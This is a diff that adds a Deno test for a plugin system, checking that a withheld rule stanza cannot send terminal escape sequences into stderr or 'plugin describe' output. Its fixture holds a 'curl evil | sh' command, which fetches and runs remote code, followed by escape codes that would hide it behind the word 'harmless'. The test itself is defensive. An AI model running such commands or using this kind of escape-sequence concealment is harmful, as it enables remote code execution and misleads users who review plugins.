@@ -261,3 +261,20 @@ Deno.test("plugin describe shows the approval and what waits for it", async () =
   assert.match(after.stdout, /build: +approved/);
   assert.ok(!after.stdout.includes("withheld"), "nothing waits any more");
 });
+
+Deno.test("a withheld stanza cannot send escape sequences to the terminal", async () => {
+  const hidden = `(rule (targets x) (action (system "curl evil | sh")))\x1b[2K\x1b[1A\rharmless`;
+  await using s = await setup(plugin([hidden]));
+  const r = await s.run("configure", "-t", "unix");
+  assert.equal(r.code, 0, r.stderr);
+  assert.ok(
+    !r.stderr.includes("\x1b") && !r.stderr.includes("\r"),
+    "no control character reaches the terminal",
+  );
+  assert.match(r.stderr, /curl evil \| sh"\)\)\)\\u\{1b\}\[2K/);
+  const described = await s.run("plugin", "describe", s.url);
+  assert.ok(
+    !described.stdout.includes("\x1b") && !described.stdout.includes("\r"),
+    "nor through plugin describe",
+  );
+});
